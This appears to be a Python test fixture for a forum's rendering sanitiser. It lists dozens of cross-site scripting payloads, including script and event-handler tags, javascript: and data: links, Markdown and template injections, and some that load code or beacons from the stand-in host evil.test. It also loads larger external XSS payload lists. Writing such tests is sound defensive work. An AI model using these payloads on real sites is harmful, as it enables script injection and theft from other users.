"""Texts that try to run as programs on other people's screens."""

import json
from pathlib import Path

from forum.settings import ROOT

# Lists of others, thousands of lines, where they lie beside the repository.
LISTS: Path = ROOT.parent / "shared" / "data" / "hostile"

# One or two of every kind: tags, handlers, protocols and their disguises, Markdown that becomes one of them, markup that
# breaks out of attributes, text areas and titles, entities, half tags, templates.
PAYLOADS = [
    "<script>__hit()</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<scr<script>ipt>__hit()</scr</script>ipt>",
    "<img src=x onerror=__hit()>",
    "<img src=//evil.test/pixel.png>",
    "<svg/onload=__hit()>",
    "<svg><script>__hit()</script></svg>",
    "<svg><animate onbegin=__hit() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=__hit()&gt;\">",
    "<iframe src=javascript:__hit()></iframe>",
    "<iframe srcdoc='<script>parent.__hit()</script>'></iframe>",
    "<object data=//evil.test/x></object><embed src=//evil.test/x>",
    "<body onload=__hit()><input autofocus onfocus=__hit()>",
    "<details open ontoggle=__hit()>",
    "<video><source onerror=__hit()></video><audio src=x onerror=__hit()>",
    "<style>@import '//evil.test/x.css';*{background:url(//evil.test/y)}</style>",
    "<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<form action=//evil.test/><input name=x><button>送る</button></form>",
    "<p style='animation:x 1s' onanimationend=__hit()>",
    "<a href=javascript:__hit()>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=__hit()>'>",
    "<template><img src=x onerror=__hit()></template>",
    "<!--><img src=x onerror=__hit()>-->",
    "<![CDATA[<img src=x onerror=__hit()>]]>",
    "<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>__hit()</h:script></x>",
    "</title></textarea></script></style><script>__hit()</script>",
    "\"'><script>__hit()</script>",
    "\" autofocus onfocus=__hit() x=\"",
    "' onmouseover='__hit()",
    "</p></div></article><script>__hit()</script>",
    "&lt;script&gt;__hit()&lt;/script&gt;",
    "&#60;img src=x onerror=__hit()&#62;",
    "\\u003cscript\\u003e__hit()\\u003c/script\\u003e",
    "＜script＞__hit()＜/script＞",
    "[x](javascript:__hit())",
    "[x](JaVaScRiPt:__hit())",
    "[x](javascript&colon;__hit())",
    "[x](&#x6A;avascript:__hit())",
    "[x](java\tscript:__hit())",
    "[x](<java\nscript:__hit()>)",
    "[x](\\javascript:__hit())",
    "[x](%6Aavascript:__hit())",
    "[x](vbscript:__hit())",
    "[x](data:text/html,<script>__hit()</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9X19oaXQoKT4=)",
    "[x](//evil.test/ \"' onmouseover='__hit()\")",
    "[x](http://a.test/\"onmouseover=\"__hit())",
    "![x](//evil.test/pixel.png)",
    "![x](x\"onerror=\"__hit())",
    "![x][y]\n\n[y]: javascript:__hit()",
    "[x]\n\n[x]: javascript:__hit()",
    "<javascript:__hit()>",
    "<http://a.test/\"onmouseover=\"__hit()>",
    "http://a.test/\"onmouseover=__hit()",
    "javascript://a.test/%0A__hit()",
    "`<img src=x onerror=__hit()>`",
    "```\"><script>__hit()</script>\nx\n```",
    "|<img src=x onerror=__hit()>|\n|-|\n|<svg/onload=__hit()>|",
    "# <img src=x onerror=__hit()>",
    "> [a #1](javascript:__hit())\n> <script>__hit()</script>",
    "{{constructor.constructor('__hit()')()}}",
    "${__hit()}",
    "{% raw %}{{ 7 * 7 }}{% endraw %}",
    "<b>太字</b> & <i>斜体</i>",
]  # fmt: skip


def listed() -> list[str]:
    """Every line of the lists of others, if they are there."""
    found: list[str] = []
    if (lines := LISTS / "xss-payload-list.txt").exists():
        found += lines.read_text(errors="replace").splitlines()
    if (strings := LISTS / "blns.json").exists():
        found += json.loads(strings.read_text())
    return [line for line in found if line.strip()]
